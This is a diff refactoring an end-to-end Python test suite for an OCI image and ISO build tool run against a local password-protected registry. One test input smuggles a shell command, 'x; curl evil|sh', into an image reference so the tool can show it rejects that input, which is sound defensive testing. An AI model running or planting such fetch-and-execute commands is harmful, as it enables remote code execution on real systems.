@@ -2,95 +2,42 @@
 # SPDX-License-Identifier: Apache-2.0
 """The program as its users run it: a real docker-registry (TLS, password) on loopback, a small image,
 an ISO. Usage: end_to_end_test.py PROGRAM [unittest arguments]"""
-import base64
 import contextlib
 import hashlib
 import json
 import os
 import pathlib
 import resource
-import shutil
 import signal
 import subprocess
 import sys
-import tempfile
 import time
-import unittest
 
-HERE = pathlib.Path(__file__).resolve().parent
-ROOT = HERE.parent.parent
-sys.path.insert(0, str(HERE.parent / "support"))
+sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "support"))
+import registry_case  # noqa: E402
 import test_image  # noqa: E402
-
-PROGRAM = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else ""
-PASSWORD = "canary-password-7Qz"
+from registry_case import UNPRIVILEGED  # noqa: E402
 
 
-class EndToEnd(unittest.TestCase):
+class EndToEnd(registry_case.RegistryCase):
+    signed_in = False
+
     @classmethod
     def setUpClass(cls):
-        cls.folder = tempfile.TemporaryDirectory(prefix="end_to_end.", dir="/var/tmp")
-        cls.base = pathlib.Path(cls.folder.name)
-        subprocess.run([ROOT / "packaging/quickstart/registry.sh", cls.base / "registry", "demo",
-                        PASSWORD], check=True, timeout=60)
-        cls.host = "localhost:" + (cls.base / "registry/port").read_text().strip()
+        super().setUpClass()
         cls.layout = cls.base / "layout"
-        cls.layers = test_image.write_layout(str(cls.layout), test_image.bootable_layers())
-        cls.config = cls.base / "config.json"
-        cls.config.write_text(json.dumps({"auths": {cls.host: {"auth": cls.encode(PASSWORD)}}}))
-        cls.config.chmod(0o600)
-        cls.program(["push", f"oci:{cls.layout}", f"{cls.host}/demo/image:1", "--credentials",
-                     cls.config], store=cls.base / "push-store", check=True)
+        test_image.write_layout(str(cls.layout), test_image.bootable_layers())
+        cls.push("demo/image:1", test_image.bootable_layers())
 
-    @classmethod
-    def tearDownClass(cls):
-        os.kill(int((cls.base / "registry/pid").read_text()), signal.SIGTERM)
-        cls.folder.cleanup()
-
-    def setUp(self):
-        work = tempfile.TemporaryDirectory(dir=self.base)
-        self.addCleanup(work.cleanup)
-        self.work = pathlib.Path(work.name)
-        self.out = self.work / "out"
-        self.store = self.work / "store"
-
-    @staticmethod
-    def encode(password):
-        return base64.b64encode(b"demo:" + password.encode()).decode()
-
-    @classmethod
-    def command(cls, arguments, store):
-        return [PROGRAM, *map(str, arguments), "--store", str(store), "--ca-dir",
-                str(cls.base / "registry/ca")]
-
-    @classmethod
-    def program(cls, arguments, store, check=False, prefix=(), **environment):
-        result = subprocess.run([*prefix, *cls.command(arguments, store)], capture_output=True,
-                                text=True, timeout=120,
-                                env={"PATH": os.environ["PATH"], "HOME": "/nonexistent",
-                                     **environment})
-        if check and result.returncode != 0:
-            raise AssertionError(result.stderr)
-        return result
-
-    def manifest(self, password=PASSWORD, image="demo/image:1", artifacts="    iso: true\n", more=""):
+    def manifest(self, password=None, image="demo/image:1", artifacts="    iso: true\n", more=""):
         file = self.work / "demo.yaml"
         file.write_text(
-            "apiVersion: v1\nkind: Secret\nmetadata: {name: login}\n"
-            "type: kubernetes.io/dockerconfigjson\nstringData:\n  .dockerconfigjson: |\n"
-            f'    {{"auths": {{"{self.host}": {{"auth": "{self.encode(password)}"}}}}}}\n---\n'
+            json.dumps(self.login_secret(password)) + "\n---\n"
             "apiVersion: build.kairos.io/v1alpha2\nkind: OSArtifact\nmetadata: {name: demo}\nspec:\n"
             f"  image:\n    ref: {self.host}/{image}\n"
             "    imageCredentialsSecretRef: {name: login}\n"
             f"  artifacts:\n{artifacts}{more}")
         return file
-
-    def build(self, *arguments, store=None, out=None, **keywords):
-        return self.program(["build", *arguments, "-o", out or self.out], store or self.store,
-                            **keywords)
-
-    def report(self):
-        return json.loads((self.out / "demo.report.json").read_text())
 
     def digest(self, out=None):
         return hashlib.sha256(((out or self.out) / "demo.iso").read_bytes()).hexdigest()
@@ -159,8 +106,8 @@ class EndToEnd(unittest.TestCase):
     def test_mirrors_of_a_variable_are_asked_in_order(self):
         mirrors = f"hub.invalid=http://127.0.0.1:1 hub.invalid={self.host}/demo"
 
-        result = self.program(["pull", "hub.invalid/image:1", "--credentials", self.config],
-                              self.store, check=True, OSARTIFACT_REGISTRY_MIRROR=mirrors)
+        result = self.program("pull", "hub.invalid/image:1", "--credentials", self.config,
+                              check=True, OSARTIFACT_REGISTRY_MIRROR=mirrors)
 
         self.assertIn("the mirror 127.0.0.1:1", result.stderr)
         self.assertIn(f"hub.invalid/image comes from {self.host}/demo/image", result.stderr)
@@ -178,7 +125,7 @@ class EndToEnd(unittest.TestCase):
         bad = self.work / "bad.yaml"
         bad.write_text(self.manifest().read_text().replace("iso: true", "isso: true"))
 
-        result = self.program(["validate", bad, self.manifest()], store=self.store)
+        result = self.program("validate", bad, self.manifest())
 
         self.assertEqual(result.returncode, 2)
         self.assertIn("demo.yaml: valid, 1 OSArtifact", result.stdout)
@@ -194,10 +141,7 @@ class EndToEnd(unittest.TestCase):
         self.assertFalse(self.out.exists())
 
     def test_an_altered_layer_is_named(self):
-        layout = self.work / "layout"
-        layers = test_image.write_layout(str(layout), test_image.bootable_layers(os.urandom(64)))
-        self.program(["push", f"oci:{layout}", f"{self.host}/demo/altered:1", "--credentials",
-                      self.config], store=self.work / "other", check=True)
+        layers = self.push("demo/altered:1", test_image.bootable_layers(os.urandom(64)))
         digest = layers[0].split(":")[1]
         blob = (self.base / "registry/storage/docker/registry/v2/blobs/sha256" / digest[:2] /
                 digest / "data")
@@ -213,22 +157,18 @@ class EndToEnd(unittest.TestCase):
 
     def test_the_same_inputs_give_the_same_bytes_in_either_kind_of_snapshot(self):
         self.build(self.manifest(), check=True, SOURCE_DATE_EPOCH="1700000000")
-        unprivileged = ["setpriv", "--bounding-set=-sys_admin", "--inh-caps=-sys_admin"]
         other = self.work / "other-out"
         result = self.build(self.manifest(), store=self.work / "other-store", out=other, check=True,
-                            prefix=unprivileged, SOURCE_DATE_EPOCH="1700000000")
+                            prefix=UNPRIVILEGED, SOURCE_DATE_EPOCH="1700000000")
 
         self.assertIn("layers go into one directory", result.stderr)
         self.assertEqual(self.digest(), self.digest(other))
 
     def test_case238_a_kill_loses_nothing(self):
         random = os.urandom(1 << 20)
-        layout = self.work / "layout"
         tars = test_image.bootable_layers()
         tars.insert(1, test_image.layer({f"data{i}": os.urandom(64) + random for i in range(64)}))
-        test_image.write_layout(str(layout), tars)
-        self.program(["push", f"oci:{layout}", f"{self.host}/demo/big:1", "--credentials",
-                      self.config], store=self.work / "other", check=True)
+        self.push("demo/big:1", tars)
         manifest = self.manifest(image="demo/big:1")
         self.build(manifest, store=self.work / "reference", out=self.work / "reference-out",
                    check=True, SOURCE_DATE_EPOCH="1700000000")
@@ -273,7 +213,7 @@ class EndToEnd(unittest.TestCase):
     def test_no_secret_is_left_anywhere(self):
         result = self.build(self.manifest(), "--log-level", "debug", check=True)
 
-        needles = [PASSWORD.encode(), self.encode(PASSWORD).encode()]
+        needles = [self.password.encode(), self.encode(self.password).encode()]
         texts = [result.stdout.encode(), result.stderr.encode()]
         texts += [p.read_bytes() for root in (self.out, self.store) for p in root.rglob("*")
                   if p.is_file() and not p.is_symlink()]
@@ -281,20 +221,19 @@ class EndToEnd(unittest.TestCase):
             self.assertFalse(any(needle in text for text in texts))
 
     def test_other_tools_read_what_we_write(self):
-        self.program(["pull", f"{self.host}/demo/image:1", "--credentials", self.config],
-                     store=self.store, check=True)
+        self.program("pull", f"{self.host}/demo/image:1", "--credentials", self.config, check=True)
 
         subprocess.run(["skopeo", "inspect", f"oci:{self.store}:{self.host}/demo/image:1"],
                        check=True, capture_output=True, timeout=60)
         raw = subprocess.run(["skopeo", "inspect", "--raw", "--authfile", self.config, "--cert-dir",
                               self.base / "registry/ca", f"docker://{self.host}/demo/image:1"],
                              check=True, capture_output=True, timeout=60).stdout
-        ours = self.program(["inspect", "--raw", f"oci:{self.layout}"], store=self.store, check=True)
+        ours = self.program("inspect", "--raw", f"oci:{self.layout}", check=True)
         self.assertEqual(raw.decode(), ours.stdout)
 
     def test_unpack_gives_the_merged_tree(self):
         root = self.work / "root"
-        self.program(["unpack", f"oci:{self.layout}", root], store=self.store, check=True)
+        self.program("unpack", f"oci:{self.layout}", root, check=True)
 
         self.assertFalse((root / "etc/old").exists())
         self.assertEqual((root / "etc/new").read_text(), "new")
@@ -302,16 +241,13 @@ class EndToEnd(unittest.TestCase):
         self.assertEqual(os.readlink(root / "boot/vmlinuz"), "/boot/vmlinuz-6.1.0-1")
 
     def test_case236_a_store_too_small_is_told_of_with_numbers(self):
-        layout = self.work / "layout"
-        test_image.write_layout(str(layout), [test_image.layer({"data": os.urandom(8 << 20)})])
-        self.program(["push", f"oci:{layout}", f"{self.host}/demo/large:1", "--credentials",
-                      self.config], store=self.work / "other", check=True)
+        self.push("demo/large:1", [test_image.layer({"data": os.urandom(8 << 20)})])
         self.store.mkdir()
         small = ["unshare", "--mount", "sh", "-c",
                  'mount -t tmpfs -o size=4m tmpfs "$0" && exec "$@"', self.store]
 
-        result = self.program(["pull", f"{self.host}/demo/large:1", "--credentials", self.config],
-                              store=self.store, prefix=small)
+        result = self.program("pull", f"{self.host}/demo/large:1", "--credentials", self.config,
+                              prefix=small)
 
         self.assertEqual(result.returncode, 8, result.stderr)
         self.assertRegex(result.stderr, r"its layers need 8\.0 MiB more, [0-9.]+ MiB are free")
@@ -321,8 +257,7 @@ class EndToEnd(unittest.TestCase):
                  "x; curl evil|sh": (2, "not an image reference")}
         for reference, (status, words) in cases.items():
             begin = time.monotonic()
-            result = self.program(["pull", reference, "--credentials", self.config],
-                                  store=self.store)
+            result = self.program("pull", reference, "--credentials", self.config)
             self.assertEqual(result.returncode, status, result.stderr)
             self.assertIn(words, result.stderr)
             self.assertLess(time.monotonic() - begin, 12)
@@ -363,8 +298,8 @@ class EndToEnd(unittest.TestCase):
     def test_case242_memory_does_not_grow_with_the_layer(self):
         layout = self.work / "layout"
         subprocess.run([sys.executable, test_image.__file__, layout, "1024"], check=True)
-        self.program(["push", f"oci:{layout}", f"{self.host}/demo/gigabyte:1", "--credentials",
-                      self.config], store=self.work / "other", check=True)
+        self.program("push", f"oci:{layout}", f"{self.host}/demo/gigabyte:1", "--credentials",
+                     self.config, store=self.work / "other", check=True)
         # By way of a small process: what a parent holds at the fork counts as the child's peak.
         measure = ("import resource, subprocess, sys\n"
                    "subprocess.run(sys.argv[1:], check=True, capture_output=True)\n"
@@ -380,14 +315,9 @@ class EndToEnd(unittest.TestCase):
 
     def push_random(self, name, megabytes):
         """A bootable image with a layer that does not compress; gives the digests of its layers."""
-        layout = self.work / "layout"
         tars = test_image.bootable_layers()
         tars.insert(1, test_image.layer({"data": os.urandom(megabytes << 20)}))
-        layers = test_image.write_layout(str(layout), tars)
-        self.program(["push", f"oci:{layout}", f"{self.host}/{name}:1", "--credentials", self.config],
-                     store=self.work / "other", check=True)
-        shutil.rmtree(layout)
-        return layers
+        return self.push(f"{name}:1", tars)
 
     @contextlib.contextmanager
     def disk(self, size, options=""):
@@ -420,8 +350,7 @@ class EndToEnd(unittest.TestCase):
 
     def test_case243_a_build_needs_room_for_layers_tree_squashfs_and_iso_and_no_more(self):
         self.push_random("demo/peak", 24)
-        unprivileged = ["setpriv", "--bounding-set=-sys_admin", "--inh-caps=-sys_admin"]
-        for prefix in ((), unprivileged):  # The ISO has 17 MiB to boot with, made in the store.
+        for prefix in ((), UNPRIVILEGED):  # The ISO has 17 MiB to boot with, made in the store.
             with self.disk("128m") as disk, self.subTest(prefix=prefix):
                 self.build_on(disk, "demo/peak", prefix=prefix, check=True)
                 self.assertGreater((disk / "out/demo.iso").stat().st_size, 24 << 20)
@@ -439,8 +368,8 @@ class EndToEnd(unittest.TestCase):
     def test_case235_a_disk_that_runs_full_ends_the_unpack_with_the_path(self):
         self.push_random("demo/full", 16)
         with self.disk("8m") as disk:
-            result = self.program(["unpack", f"{self.host}/demo/full:1", disk / "root",
-                                   "--credentials", self.config], store=self.store)
+            result = self.program("unpack", f"{self.host}/demo/full:1", disk / "root",
+                                  "--credentials", self.config)
 
         self.assertEqual(result.returncode, 8, result.stderr)
         self.assertRegex(result.stderr, r"data of layer 2 of 4 .*\n.*No space left on device")
@@ -448,7 +377,7 @@ class EndToEnd(unittest.TestCase):
     def test_case237_a_disk_that_cannot_be_written_is_told_of_at_once(self):
         begin = time.monotonic()
         with self.disk("8m", ",ro") as disk:
-            pull = self.program(["pull", f"{self.host}/demo/image:1", "--credentials", self.config],
+            pull = self.program("pull", f"{self.host}/demo/image:1", "--credentials", self.config,
                                 store=disk / "store")
             build = self.build(self.manifest(), out=disk / "out")
 
@@ -487,4 +416,4 @@ class EndToEnd(unittest.TestCase):
 
 if __name__ == "__main__":
     resource.setrlimit(resource.RLIMIT_NOFILE, (1024, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
-    unittest.main(argv=[sys.argv[0], *sys.argv[2:]], verbosity=2)
+    registry_case.main()
